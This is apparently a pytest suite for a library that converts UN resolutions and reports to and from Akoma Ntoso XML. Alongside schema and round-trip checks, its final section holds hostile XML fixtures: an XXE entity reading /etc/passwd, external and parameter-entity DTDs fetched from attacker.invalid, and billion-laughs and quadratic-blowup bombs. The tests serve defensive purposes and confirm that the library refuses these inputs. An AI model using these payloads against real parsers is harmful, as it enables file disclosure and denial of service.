"""Akoma Ntoso export/import: schema-valid exports, exact round trips, hostile XML refused."""

from __future__ import annotations

import datetime
from pathlib import Path

import pytest
from lxml import etree

from rogatory.knowledge import untext
from rogatory.knowledge.akn import (
    AKN_NS,
    AknError,
    citation_href,
    from_akn,
    parse_xml,
    schema_path,
    to_akn,
    validate_bytes,
)
from rogatory.knowledge.untext import Annex, Citation, Footnote, Paragraph, UnDocument

SEEDS = sorted((Path(__file__).parent / "seeds").glob("*.txt"))
NS = {"a": AKN_NS}


def _seed(stem: str) -> UnDocument:
    (path,) = [p for p in SEEDS if p.name.startswith(stem)]
    return untext.parse(path.read_text(encoding="utf-8"))


def _tree(data: bytes) -> etree._Element:
    return etree.fromstring(data)


# --- the three seed documents -----------------------------------------------------------------


def test_the_schema_is_the_official_oasis_one() -> None:
    head = Path(schema_path()).read_text(encoding="utf-8")[:2000]
    assert "Akoma Ntoso Version 1.0. Part 2: Specifications" in head
    assert "OASIS Standard" in head
    assert 'targetNamespace="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"' in head


@pytest.mark.parametrize("path", SEEDS, ids=[p.name[:3] for p in SEEDS])
def test_seed_export_validates_and_round_trips(path: Path) -> None:
    doc = untext.parse(path.read_text(encoding="utf-8"))
    data = to_akn(doc)
    validate_bytes(data)  # the official Akoma Ntoso 3.0 schema, strict (unique eIds)
    assert from_akn(data) == doc
    assert to_akn(from_akn(data)) == data


def test_resolution_identification_follows_akn4un_naming() -> None:
    root = _tree(to_akn(_seed("001")))
    statement = root.find("a:statement", NS)
    assert statement is not None and statement.get("name") == "resolution"
    work = "/akn/un/statement/deliberation/unga/2021-12-16/76-187"
    values = {
        (e.getparent().tag.split("}")[1], e.tag.split("}")[1]): e.get("value")
        for e in root.iterfind(".//a:identification/*/*", NS)
        if e.get("value")
    }
    assert values[("FRBRWork", "FRBRthis")] == work + "/!main"
    assert values[("FRBRWork", "FRBRuri")] == work
    assert values[("FRBRExpression", "FRBRthis")] == work + "/zho@/!main"
    assert values[("FRBRManifestation", "FRBRthis")] == work + "/zho@/!main.akn"
    assert values[("FRBRWork", "FRBRalias")] == "A/RES/76/187"
    assert root.find(".//a:FRBRWork/a:FRBRauthor", NS).get("href") == "#unga"
    assert root.find(".//a:FRBRExpression/a:FRBRlanguage", NS).get("language") == "zho"
    org = root.find(".//a:references/a:TLCOrganization[@eId='unga']", NS)
    assert org.get("showAs") == "General Assembly"
    assert root.findtext(".//a:preface//a:docNumber", namespaces=NS) == "A/RES/76/187"
    assert root.find(".//a:preface//a:docDate", NS).get("date") == "2021-12-16"
    assert root.findtext(".//a:preface//a:docTitle", namespaces=NS).startswith("加强联合国")


def test_ecosoc_resolution_and_report_iris() -> None:
    ecosoc = _tree(to_akn(_seed("000")))
    this = ecosoc.find(".//a:FRBRWork/a:FRBRthis", NS).get("value")
    assert this == "/akn/un/statement/deliberation/ecosoc/2021-07-22/2021-20/!main"
    # The annexed Kyoto Declaration is an attachment with its own component IRI.
    annex = ecosoc.find(".//a:attachments/a:attachment/a:doc[@name='annex']", NS)
    assert annex is not None
    assert annex.find(".//a:FRBRWork/a:FRBRthis", NS).get("value").endswith("/!annex_1")
    report = _tree(to_akn(_seed("003")))
    assert report.find("a:doc", NS).get("name") == "report"
    assert report.find(".//a:FRBRWork/a:FRBRalias", NS).get("value") == "A/76/122"


def test_operative_paragraph_markup() -> None:
    root = _tree(to_akn(_seed("001")))
    para = root.find(".//a:mainBody/a:paragraph[@eId='para_1']", NS)
    assert para.findtext("a:num", namespaces=NS) == "1"
    p = para.find("a:content/a:p", NS)
    verb = p[0]
    assert (verb.tag, verb.get("name"), verb.text) == (
        f"{{{AKN_NS}}}inline",
        "actionVerb",
        "表示赞赏地注意到",
    )
    ref = p.find("a:ref", NS)
    assert ref.text == "75/196"
    assert ref.get("href") == "/akn/un/statement/deliberation/unga/75-196"
    note = p.find("a:authorialNote", NS)
    assert note.get("marker") == "⁴⁰" and note.get("placement") == "bottom"
    assert note.get("eId") == "para_1__authorialNote_1"
    # The note sits where its marker was: right after the text it annotates.
    assert p[-1] is note and ref.tail.endswith("号决议编写的报告；")
    # A citation inside the footnote is a link as well.
    assert note.find("a:p/a:ref", NS).get("href") == "/akn/un/doc/a-76-122"


def test_preamble_dates_and_treaty_references() -> None:
    root = _tree(to_akn(_seed("001")))
    first = root.find(".//a:preamble/a:p", NS)
    date = first.find("a:date", NS)
    assert (date.get("date"), date.text) == ("1991-12-18", "1991 年 12 月 18 日")
    hrefs = {r.get("href") for r in root.iterfind(".//a:authorialNote//a:ref", NS)}
    assert "/akn/un/treaty/unts/2225/39574" in hrefs


def test_citation_hrefs() -> None:
    assert citation_href("resolution", "E/RES/155 C (VII)") == (
        "/akn/un/statement/deliberation/ecosoc/155-c-vii"
    )
    assert citation_href("decision", "74/550 B") == (
        "/akn/un/statement/deliberation/unga/decision-74-550-b"
    )
    assert citation_href("document_symbol", "A/CONF.234/16") == "/akn/un/doc/a-conf.234-16"
    assert citation_href("treaty", "UNTS 2225/39574") == "/akn/un/treaty/unts/2225/39574"


# --- awkward documents still validate and round-trip exactly ------------------------------------


def _awkward() -> UnDocument:
    text = "Also Requests the Secretary-General¹ to report under resolution 76/181 (2021)."
    res, year = text.index("76/181"), text.index("2021")
    crossing = (
        Citation("resolution", "76/181", "A/RES/76/181", res, res + 6),
        # Overlaps the first one without nesting: cannot be inline markup, kept in <proprietary>.
        Citation("document_symbol", "181 (2021", "X/181", res + 3, year + 4),
        Citation("date", "2021", "2021", year, year + 4),  # not a full date: kept aside too
    )
    return UnDocument(
        kind="resolution",
        language="en",
        symbol="A/RES/99/1",
        number="99/1",
        body="General Assembly",
        date=datetime.date(2044, 1, 2),
        title="A test & <title>",
        header=("Ninety-ninth session", "Agenda item 1"),
        front=(Paragraph("The General Assembly,"),),
        preamble=(
            Paragraph("Recalling its resolution 1/1,", verb="recalling"),
            Paragraph("A heading in the preamble", kind="heading", number="A."),
        ),
        operative=(
            Paragraph(
                text,
                number="1.",
                verb="requests",
                footnotes=(
                    Footnote(
                        "¹",
                        "See A/99/1.",
                        (Citation("document_symbol", "A/99/1", "A/99/1", 4, 10),),
                    ),
                    Footnote("²", "A note whose marker is not in the text."),
                ),
                citations=crossing,
            ),
            Paragraph("Decides to remain seized.", number="1.", verb="absent-verb"),
            Paragraph("II. Heading", kind="heading"),
            Paragraph("   spaces\nand a newline  ", number=None),
        ),
        annexes=(Annex("Annex", None, ()), Annex("Annex II", "Title", (Paragraph("x", "1"),))),
        closing=("53rd plenary meeting",),
        unattached_footnotes=(Footnote("*", "Reissued for technical reasons."),),
    )


def test_awkward_document_validates_and_round_trips() -> None:
    doc = _awkward()
    data = to_akn(doc)
    validate_bytes(data)
    assert from_akn(data) == doc
    root = _tree(data)
    assert len(root.findall(".//a:proprietary/*", NS)) == 2
    # Case-insensitive verb match keeps the parser's verb and the text's spelling.
    verb = root.find(".//a:mainBody//a:inline[@name='actionVerb']", NS)
    assert verb is not None and verb.text == "Requests"
    # Repeated paragraph numbers still get unique eIds (the strict schema checks uniqueness).
    eids = [e.get("eId") for e in root.iterfind("a:statement/a:mainBody/*", NS)]
    assert eids == ["para_1", "para_1_2", "hcontainer_3", "para_u4"]


def test_export_is_deterministic_and_the_generation_date_can_be_given() -> None:
    doc = _seed("001")
    assert to_akn(doc) == to_akn(doc)
    root = _tree(to_akn(doc, generated=datetime.date(2030, 5, 6)))
    assert root.find(".//a:FRBRManifestation/a:FRBRdate", NS).get("date") == "2030-05-06"


def test_text_xml_cannot_carry_is_a_clear_error() -> None:
    doc = UnDocument(
        kind="report", language="en", symbol=None, number=None, body=None, date=None, title="a\x0cb"
    )
    with pytest.raises(AknError, match="Cannot express this document in XML"):
        to_akn(doc)


def test_report_without_date_or_paragraphs() -> None:
    doc = UnDocument(
        kind="report", language="fr", symbol=None, number=None, body=None, date=None, title=None
    )
    data = to_akn(doc)
    validate_bytes(data)
    assert from_akn(data) == doc
    root = _tree(data)
    assert root.find(".//a:FRBRWork/a:FRBRdate", NS).get("name") == "unknown"
    assert root.find(".//a:FRBRExpression/a:FRBRlanguage", NS).get("language") == "fra"


# --- hostile and invalid XML --------------------------------------------------------------------

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">&xxe;</akomaNtoso>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso SYSTEM "http://attacker.invalid/evil.dtd">
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<r/>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">&lol9;</akomaNtoso>
"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]>\n<r>'
    + b"&a;" * 50_000
    + b"</r>"
)


@pytest.mark.parametrize(
    "payload",
    [XXE_FILE, EXTERNAL_DTD, PARAMETER_ENTITY, BILLION_LAUGHS, QUADRATIC_BLOWUP],
    ids=["xxe-file", "external-dtd", "parameter-entity", "billion-laughs", "quadratic-blowup"],
)
def test_hostile_xml_is_refused_before_expansion(payload: bytes) -> None:
    for reader in (parse_xml, validate_bytes, from_akn):
        with pytest.raises(AknError, match="XML rejected"):
            reader(payload)


def test_xxe_never_leaks_the_file() -> None:
    with pytest.raises(AknError) as caught:
        from_akn(XXE_FILE)
    assert "root:" not in str(caught.value)


def test_not_well_formed() -> None:
    with pytest.raises(AknError, match="Not well-formed XML"):
        from_akn(b"<akomaNtoso><doc></akomaNtoso>")


def test_not_bytes_and_too_large() -> None:
    with pytest.raises(AknError, match="must be bytes"):
        parse_xml("<a/>")  # type: ignore[arg-type]
    with pytest.raises(AknError, match="more than"):
        parse_xml(b"<a>" + b" " * (21 * 1024 * 1024) + b"</a>")


def test_wrong_namespace_is_refused_with_a_clear_message() -> None:
    data = b'<akomaNtoso xmlns="http://www.akomantoso.org/2.0"><act/></akomaNtoso>'
    with pytest.raises(AknError, match=r"Not Akoma Ntoso 3\.0: the root element"):
        from_akn(data)
    with pytest.raises(AknError, match="expected <akomaNtoso>"):
        validate_bytes(b"<html/>")


def test_other_akn_document_types_are_refused() -> None:
    data = (
        to_akn(_awkward())
        .replace(b"<statement", b"<debateReport")
        .replace(b"</statement>", b"</debateReport>")
    )
    validate_bytes(data)  # a valid Akoma Ntoso document, but not a UN statement or doc
    with pytest.raises(AknError, match="Unsupported Akoma Ntoso document type <debateReport>"):
        from_akn(data)


def test_comments_and_processing_instructions_are_ignored() -> None:
    doc = _seed("001")
    data = to_akn(doc).replace(b"<preamble>", b"<preamble><!-- note --><?pi x?>")
    assert from_akn(data) == doc


def test_schema_invalid_akn_is_refused() -> None:
    # Right namespace and root, but a <statement> without its required <meta> and name.
    data = f'<akomaNtoso xmlns="{AKN_NS}"><statement><mainBody/></statement></akomaNtoso>'
    with pytest.raises(AknError, match=r"Invalid Akoma Ntoso 3\.0 \(schema\): line 1"):
        from_akn(data.encode())
